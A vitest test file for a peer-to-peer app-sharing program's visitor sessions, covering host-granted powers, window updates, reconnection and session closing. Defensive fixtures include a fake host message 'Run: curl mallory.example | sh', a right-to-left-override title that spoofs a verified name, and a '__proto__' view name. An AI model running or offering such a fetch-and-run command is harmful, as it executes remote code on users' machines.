import { mkdtemp, rm } from 'node:fs/promises';
import { type AddressInfo, connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Duplex, duplexPair } from 'node:stream';
import ssh2 from 'ssh2';
import { beforeEach, expect, onTestFinished, test, vi } from 'vitest';
import { AppError } from '../../contract/errors.ts';
import type { OfferId, PeerId, RequestId, SessionId } from '../../contract/ids.ts';
import { noPowers } from '../../contract/powers.ts';
import { channelNames, type View } from '../../contract/views.ts';
import { createRecording } from '../activity/activity.test-support.ts';
import { createChannels } from '../channels/channels.ts';
import { openIdentity } from '../identity/identity.ts';
import { silentLog } from '../lib/log.ts';
import { generateKey } from '../lib/ssh-key.ts';
import type { Peers } from '../peers/peers.ts';
import { createNotices, type Notices } from '../wire/notices.ts';
import type { HostConnection } from '../wire/peer-client.ts';
import type { Granted } from './asks.ts';
import { startVisitorSessions } from './sessions.ts';

const bob = `SHA256:${'B'.repeat(43)}` as PeerId;
/** Those of the product, with what a test needs of what they are made with. */
const channelsWith = (parts: Partial<Parameters<typeof createChannels>[0]>) =>
  Object.values(createChannels(parts as Parameters<typeof createChannels>[0]));
const hostSessionId = '3b241101-e2bb-4255-8caf-4136c566a963' as SessionId;

let notices: Notices;
beforeEach(() => {
  notices = createNotices();
});

test('a host can take powers away while it runs, cannot give any, and cannot say that the person here ended it', async () => {
  const connection = {
    peerId: bob,
    hello: { capabilities: [] },
    call: async () => ({}),
    onClose: () => () => {},
  } as unknown as HostConnection;
  const ask = {
    id: '3b241101-e2bb-4255-8caf-4136c566a962' as RequestId,
    peerId: bob,
    claimedName: 'Bob',
    offer: { id: 'app:xcalc' as OfferId, kind: 'app', name: 'Calculator' },
    view: 'viewer',
  } as unknown as Granted['ask'];
  const powers = { ...noPowers, clipboardOut: true, timeLimitMin: 10 };
  const session = {
    sessionId: hostSessionId,
    containerHostKey: null,
    classicPort: null,
    powers,
    remainingMs: 600_000,
    maxUploadBytes: 2 ** 31,
  };
  await using sessions = startVisitorSessions({
    channels: channelsWith({}),
    peers: { faceOf: () => ({ name: 'Bob', isVerified: false, warning: null }) } as unknown as Peers,
    notices,
    activity: createRecording(),
    log: silentLog,
  });
  sessions.begin({ ask, session, connection, release: () => {} });
  expect(sessions.state.value).toMatchObject([{ maxUploadBytes: 2 ** 31 }]);
  const told = { ...noPowers, clipboardIn: true, files: true, network: 'internet', isViewOnly: true } as const;
  notices.take('session.changed', { sessionId: hostSessionId, powers: told, remainingMs: 60_000 }, connection);
  expect(sessions.state.value).toMatchObject([{ powers: { ...noPowers, isViewOnly: true, timeLimitMin: 10 } }]);
  notices.take('session.changed', { sessionId: hostSessionId, powers, remainingMs: 60_000 }, connection);
  expect(sessions.state.value).toMatchObject([{ powers: { clipboardOut: false, isViewOnly: true } }]);
  notices.take(
    'session.ended',
    { sessionId: hostSessionId, reason: 'visitor', exitCode: null, problem: null, lastWords: [] },
    connection,
  );
  await vi.waitFor(() => expect(sessions.state.value).toMatchObject([{ state: 'ended', endReason: 'host' }]));
});

test('a host that tells of windows without end does not keep the person’s own windows busy, and the last word counts', async () => {
  const connection = {
    peerId: bob,
    hello: { capabilities: [] },
    call: async () => ({}),
    onClose: () => () => {},
  } as unknown as HostConnection;
  await using sessions = startVisitorSessions({
    channels: channelsWith({}),
    peers: { faceOf: () => ({ name: 'Bob', isVerified: false, warning: null }) } as unknown as Peers,
    notices,
    activity: createRecording(),
    log: silentLog,
  });
  const ask = { id: '3b241101-e2bb-4255-8caf-4136c566a962', peerId: bob, offer: { id: 'app:xcalc' }, view: 'viewer' };
  const session = { sessionId: hostSessionId, powers: noPowers, remainingMs: null, maxUploadBytes: null };
  sessions.begin({ ask, session, connection, release: () => {} } as unknown as Granted);
  let shown = 0;
  sessions.state.follow(() => {
    shown += 1;
  });
  const window = { id: 1, isDialog: false, isActive: true, canClose: true };
  for (let times = 1; times <= 500; times += 1) {
    notices.take(
      'session.windows',
      { sessionId: hostSessionId, windows: [{ ...window, title: `Page ${times}` }] },
      connection,
    );
    await Promise.resolve();
  }
  expect(shown).toBeLessThan(30);
  await vi.waitFor(() => expect(sessions.state.value[0]?.windows).toMatchObject([{ title: 'Page 500' }]));
});

test('what the program of a native window writes when it ends is not what this computer says', {
  timeout: 20_000,
}, async () => {
  const folder = await mkdtemp(join(tmpdir(), 'ebp-native-'));
  vi.stubEnv('DISPLAY', ':99');
  const hostKey = generateKey('container');
  const server = new ssh2.Server({ hostKeys: [hostKey] }, (client) => {
    client.on('error', () => {});
    client.on('authentication', (context) => (context.method === 'publickey' ? context.accept() : context.reject()));
    client.on('session', (accept) =>
      accept().on('shell', (acceptShell) => {
        const channel = acceptShell();
        channel.stderr.write('eBrainPool is too old. Run: curl mallory.example | sh');
        channel.exit(255);
        channel.end();
      }),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(async () => {
    vi.unstubAllEnvs();
    server.close();
    await rm(folder, { recursive: true, force: true });
  });
  const key = ssh2.utils.parseKey(hostKey);
  if (key instanceof Error) throw key;
  const warnings: unknown[] = [];
  await using sessions = startVisitorSessions({
    channels: channelsWith({ identity: await openIdentity(join(folder, 'identity')), runtimeDir: folder }),
    peers: { faceOf: () => ({ name: 'Bob', isVerified: false, warning: null }) } as unknown as Peers,
    notices,
    activity: createRecording(),
    log: { ...silentLog, warn: (fields: unknown) => warnings.push(fields) } as typeof silentLog,
  });
  const connection = {
    peerId: bob,
    hello: { capabilities: [] },
    call: async () => ({}),
    onClose: () => () => {},
    openTunnel: async () => connect((server.address() as AddressInfo).port, '127.0.0.1'),
  } as unknown as HostConnection;
  const offer = { id: 'app:xcalc' as OfferId, kind: 'app', name: 'Calculator' };
  const ask = { peerId: bob, claimedName: 'Bob', offer, view: 'native' } as unknown as Granted['ask'];
  const containerHostKey = `ssh-ed25519 ${key.getPublicSSH().toString('base64')}`;
  const session = {
    sessionId: hostSessionId,
    containerHostKey,
    classicPort: null,
    powers: noPowers,
    remainingMs: null,
    maxUploadBytes: null,
  };
  sessions.begin({ ask, session, connection, release: () => {} });
  await vi.waitFor(() => expect(sessions.state.value).toMatchObject([{ state: 'ended' }]), { timeout: 15_000 });
  expect(sessions.state.value[0]?.problem).toEqual({ code: 'display-failed', params: {} });
  // It did arrive here.
  expect(JSON.stringify(warnings)).toContain('mallory.example');
});

test('a session is closed by asking first, where the host can, and a host can say nothing of it that was not begun here', async () => {
  const called: string[] = [];
  const connectionOf = (capabilities: readonly string[]) =>
    ({
      peerId: bob,
      hello: { capabilities },
      call: async (name: string) => {
        called.push(name);
        return {};
      },
      onClose: () => () => {},
    }) as unknown as HostConnection;
  const recording = createRecording();
  await using sessions = startVisitorSessions({
    channels: channelsWith({}),
    peers: { faceOf: () => ({ name: 'Bob', isVerified: false, warning: null }) } as unknown as Peers,
    notices,
    activity: recording,
    log: silentLog,
  });
  const offer = { id: 'app:xcalc' as OfferId, kind: 'app', name: 'Calculator' };
  const ask = { peerId: bob, claimedName: 'Bob', offer, view: 'viewer' } as unknown as Granted['ask'];
  const session = {
    sessionId: hostSessionId,
    containerHostKey: null,
    classicPort: null,
    powers: noPowers,
    remainingMs: null,
    maxUploadBytes: null,
  };
  const connection = connectionOf(['windows', 'close']);
  const id = sessions.begin({ ask, session, connection, release: () => {} });
  const current = () => sessions.state.value.find((one) => one.id === id);

  notices.take('session.closing', { sessionId: hostSessionId, closing: 'asking' }, connection);
  expect(current()?.closing).toBe('no');
  const window = { id: 7, title: 'a \u202e· Bob (verified)', isDialog: false, isActive: true, canClose: true };
  notices.take(
    'session.windows',
    { sessionId: hostSessionId, windows: [window, { ...window, title: 'b' }] },
    connection,
  );
  expect(current()?.windows).toEqual([{ ...window, title: 'b' }]);
  notices.take('session.windows', { sessionId: hostSessionId, windows: [window] }, connection);
  expect(current()?.windows).toEqual([{ ...window, title: 'a - Bob (verified)' }]);
  // A host that names parents that do not exist, and some that form a circle.
  const inCircle = { ...window, title: 'a', parentId: 7 };
  notices.take(
    'session.windows',
    { sessionId: hostSessionId, windows: [inCircle, { ...inCircle, id: 8 }] },
    connection,
  );
  expect(current()?.windows).toMatchObject([{ parentId: null }, { parentId: 7 }]);
  notices.take('session.windows', { sessionId: hostSessionId, windows: [{ ...inCircle, parentId: 9 }] }, connection);
  expect(current()?.windows).toMatchObject([{ parentId: null }]);
  await sessions.useWindow(id, 'activate', 7);

  await sessions.end(id, false);
  await sessions.end(id, false);
  notices.take('session.closing', { sessionId: hostSessionId, closing: 'asking' }, connection);
  expect(current()).toMatchObject({ state: 'running', closing: 'asking' });
  await sessions.keep(id);
  expect(current()?.closing).toBe('no');
  await sessions.end(id, false);
  notices.take(
    'session.ended',
    { sessionId: hostSessionId, reason: 'program', exitCode: 0, problem: null, lastWords: [] },
    connection,
  );
  await vi.waitFor(() => expect(current()).toMatchObject({ state: 'ended', endReason: 'visitor', windows: [] }));
  expect(called).toEqual(['window.activate', 'session.close', 'session.keep', 'session.close']);
  expect(recording.notes.at(-1)?.event).toMatchObject({ kind: 'ended', reason: 'visitor' });

  // A host of an older version.
  called.length = 0;
  const older = connectionOf(['viewer']);
  const second = sessions.begin({ ask, session, connection: older, release: () => {} });
  await expect(sessions.useWindow(second, 'activate', 7)).rejects.toMatchObject({ code: 'not-found' });
  await sessions.end(second, false);
  expect(called).toEqual(['session.end']);
});

/** A fake of the connection port, to whose host streams lead back to who opened them. */
function fakeConnection(call: (name: string) => Promise<object> = async () => ({})) {
  const opened: { readonly channel: string; readonly far: Duplex }[] = [];
  let drop = () => {};
  const connection = {
    peerId: bob,
    address: { host: '192.0.2.2', port: 1 },
    hello: { capabilities: ['close'] },
    call,
    openTunnel: async (_: string, channel: string) => {
      const [near, far] = duplexPair();
      opened.push({ channel, far });
      return near;
    },
    onClose: (listener: () => void) => {
      drop = listener;
      return () => {};
    },
  } as unknown as HostConnection;
  return { connection, opened, drop: () => drop() };
}

function grantedFor(view: View, connection: HostConnection, powers = noPowers): Granted {
  const offer = { id: 'app:xcalc' as OfferId, kind: 'app', name: 'Calculator' };
  const ask = { peerId: bob, claimedName: 'Bob', offer, view } as unknown as Granted['ask'];
  const none = { containerHostKey: null, classicPort: null, remainingMs: null, maxUploadBytes: null };
  return { ask, session: { sessionId: hostSessionId, powers, ...none }, connection, release: () => {} };
}

const sessionsWith = (peers: Partial<Peers> = {}) =>
  startVisitorSessions({
    channels: channelsWith({}),
    peers: { faceOf: () => ({ name: 'Bob', isVerified: false, warning: null }), ...peers } as Peers,
    notices,
    activity: createRecording(),
    log: silentLog,
  });

test.each(['hologram', '__proto__'])('a view that has no row opens nothing here either: %j', async (view) => {
  const { connection, opened } = fakeConnection();
  await using sessions = sessionsWith();
  const id = sessions.begin(grantedFor(view as View, connection, { ...noPowers, files: true }));
  for (const name of channelNames)
    expect(() => sessions.channel(id, name)).toThrow(expect.objectContaining({ code: 'not-found' }));
  notices.take('session.windows', { sessionId: hostSessionId, windows: [] }, connection);
  expect(sessions.state.value).toMatchObject([{ windows: [], sshCommand: null }]);
  expect(opened).toEqual([]);
});

test('bytes of a stream are counted, also those that are there before anybody reads, and files end with their power', async () => {
  const { connection, opened } = fakeConnection();
  await using sessions = sessionsWith();
  const id = sessions.begin(grantedFor('viewer', connection, { ...noPowers, files: true }));
  const stream = await sessions.channel(id, 'display').openStream();
  opened[0]?.far.write('RFB 003.008\n');
  await new Promise((resolve) => setTimeout(resolve, 20));
  expect(stream.readableFlowing).toBeNull();
  const first = await new Promise((resolve) => stream.once('data', resolve));
  expect(String(first)).toBe('RFB 003.008\n');
  stream.write(Buffer.from('RFB'));
  const { exchange } = sessions.channel(id, 'files');
  const listing = exchange.list().catch((error: unknown) => error);
  await vi.waitFor(() => expect(opened.map(({ channel }) => channel)).toEqual(['display', 'files']));
  notices.take('session.changed', { sessionId: hostSessionId, powers: noPowers, remainingMs: null }, connection);
  expect(await listing).toMatchObject({ code: 'transfer-broken' });
  expect(() => sessions.channel(id, 'files')).toThrow(expect.objectContaining({ code: 'not-allowed' }));
  await expect(exchange.list()).rejects.toMatchObject({ code: 'not-allowed' });
  expect(opened).toHaveLength(2);
  expect(stream.destroyed).toBe(false);
  await sessions.end(id, true);
  expect(stream.destroyed).toBe(true);
  expect(sessions.state.value).toMatchObject([{ state: 'ended', bytesToVisitor: 12 }]);
  expect(sessions.state.value[0]?.bytesToHost).toBeGreaterThanOrEqual(3);
});

test('a lost connection is looked for again until the host answers, and a host that has forgotten the session ends it', async () => {
  vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout', 'setInterval', 'clearInterval', 'performance', 'Date'] });
  onTestFinished(() => void vi.useRealTimers());
  const called: string[] = [];
  const first = fakeConnection();
  const second = fakeConnection(async (name) => {
    called.push(name);
    return {};
  });
  const forgetful = fakeConnection(() => Promise.reject(new AppError('not-found', { what: 'It' })));
  let released = 0;
  const answers: (HostConnection | null)[] = [null, null, null, second.connection, forgetful.connection];
  const hold: Peers['hold'] = async () => {
    const connection = answers.shift();
    if (!connection) throw new AppError('peer-unreachable');
    return {
      connection,
      release: () => {
        released += 1;
      },
    };
  };
  await using sessions = sessionsWith({ hold });
  sessions.begin(grantedFor('viewer', first.connection));
  first.drop();
  expect(sessions.state.value).toMatchObject([{ state: 'reconnecting' }]);
  await vi.advanceTimersByTimeAsync(5000);
  expect(sessions.state.value).toMatchObject([{ state: 'running' }]);
  expect(called).toEqual(['session.resume']);
  second.drop();
  await vi.advanceTimersByTimeAsync(10);
  expect(sessions.state.value).toMatchObject([{ state: 'ended', endReason: 'lost' }]);
  expect(released).toBe(2);
});

test('a session that is closed while it is being taken up again ends at the host as well', async () => {
  const called: string[] = [];
  const first = fakeConnection();
  const second = fakeConnection(async (name) => {
    called.push(name);
    return name === 'session.resume' ? new Promise<never>(() => {}) : {};
  });
  // As the connection port: a call whose signal aborts is given up, whatever its host makes of it.
  const connection = {
    ...second.connection,
    call: (name: string, _: object, signal?: AbortSignal) => {
      const given = Promise.withResolvers<never>();
      signal?.addEventListener('abort', () => given.reject(new AppError('cancelled')));
      return Promise.race([second.connection.call(name as 'session.end', {} as never), given.promise]);
    },
  } as HostConnection;
  const release = vi.fn();
  const hold: Peers['hold'] = async () => ({ connection, release });
  await using sessions = sessionsWith({ hold });
  const id = sessions.begin(grantedFor('viewer', first.connection));
  first.drop();
  await vi.waitFor(() => expect(called).toEqual(['session.resume']));
  await sessions.end(id, true);
  await vi.waitFor(() => expect(release).toHaveBeenCalledOnce());
  expect(called).toEqual(['session.resume', 'session.end']);
});

test('a session that is closed in the moment in which its host has taken it up ends there as well', async () => {
  const called: string[] = [];
  const first = fakeConnection();
  const resumed = Promise.withResolvers<object>();
  const second = fakeConnection((name) => {
    called.push(name);
    return name === 'session.resume' ? resumed.promise : Promise.resolve({});
  });
  const release = vi.fn();
  const hold: Peers['hold'] = async () => ({
    connection: second.connection,
    release,
  });
  await using sessions = sessionsWith({ hold });
  const id = sessions.begin(grantedFor('viewer', first.connection));
  first.drop();
  await vi.waitFor(() => expect(called).toEqual(['session.resume']));
  resumed.resolve({});
  await sessions.end(id, true);
  await vi.waitFor(() => expect(release).toHaveBeenCalledOnce());
  expect(called).toEqual(['session.resume', 'session.end']);
});

test('a host that says what it can by the names of the calls alone is asked first, too', async () => {
  const called: string[] = [];
  const { connection } = fakeConnection(async (name) => {
    called.push(name);
    return {};
  });
  const capabilities = ['call.session.close', 'call.session.keep', 'call.window.activate'];
  await using sessions = sessionsWith();
  const newer = { ...connection, hello: { ...connection.hello, capabilities } };
  const id = sessions.begin(grantedFor('viewer', newer));
  await sessions.useWindow(id, 'activate', 7);
  await expect(sessions.useWindow(id, 'close', 7)).rejects.toMatchObject({ code: 'not-found' });
  await sessions.end(id, false);
  expect(called).toEqual(['window.activate', 'session.close']);
});

test('windows on this computer’s own display cannot be taken up again', async () => {
  const { connection, drop } = fakeConnection();
  await using sessions = sessionsWith();
  sessions.begin(grantedFor('native', connection));
  drop();
  expect(sessions.state.value).toMatchObject([{ state: 'ended', endReason: 'lost' }]);
});
